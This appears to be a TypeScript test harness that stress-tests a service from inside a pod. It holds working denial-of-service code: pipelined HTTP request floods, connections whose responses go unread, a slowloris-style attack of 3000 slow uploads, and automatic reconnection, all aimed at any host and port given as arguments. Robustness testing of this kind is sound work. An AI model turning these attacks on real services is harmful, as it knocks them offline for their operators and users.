// Runs alone inside a pod, as `node --input-type=module-typescript --eval`, so it imports nothing but Node. It attacks a
// service for some seconds, and prints how often it connected. A connection that the service closes is opened again.
import { connect, type Socket } from "node:net";

const [host = "", port, name = "", seconds] = process.argv.slice(1);

interface Attack {
  connections: number;
  begin: (socket: Socket) => void;
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;
const pipelined = (text: string, bytes: number) => Buffer.from(text.repeat(bytes / text.length));
const TINY = pipelined(get("/"), 2_000_000);
const SCRAPES = pipelined(get("/metrics"), 680_000);
const UPLOAD = `POST / HTTP/1.1\r\nHost: x\r\nA: ${"a".repeat(15_000)}\r\nContent-Length: 100000\r\n\r\n`;

/** Sends the text again and again, as fast as the service reads. */
function flood(socket: Socket, text: Buffer): void {
  const write = () => {
    while (socket.writable && socket.write(text));
  };
  socket.on("drain", write);
  write();
}

const unread = (text: Buffer, connections: number): Attack => ({
  connections,
  begin: (socket) => flood(socket.pause(), text),
});
const read = (text: Buffer, connections: number): Attack => ({
  connections,
  begin: (socket) => flood(socket.resume(), text),
});

const ATTACKS: Readonly<Record<string, Attack>> = {
  "one connection, responses read": read(TINY, 1),
  "50 connections, no response read": unread(TINY, 50),
  "scrapes, responses read": read(SCRAPES, 10),
  "scrapes, no response read": unread(SCRAPES, 10),
  "slow uploads": {
    connections: 3000,
    begin: (socket) => {
      socket.resume().write(UPLOAD);
      const timer = setInterval(() => socket.write("a"), 1000);
      socket.on("close", () => clearInterval(timer));
    },
  },
};

let opened = 0;
function open(attack: Attack): void {
  opened++;
  const socket = connect(Number(port), host, () => attack.begin(socket));
  socket.on("error", () => undefined);
  socket.on("close", () => setTimeout(() => open(attack), 3000));
}

const attack = ATTACKS[name];
if (!attack) throw new Error(`Unknown attack ${JSON.stringify(name)}`);
for (let i = 0; i < attack.connections; i++) open(attack);
setTimeout(
  () => {
    process.stdout.write(JSON.stringify({ opened }));
    process.exit();
  },
  Number(seconds) * 1000,
);
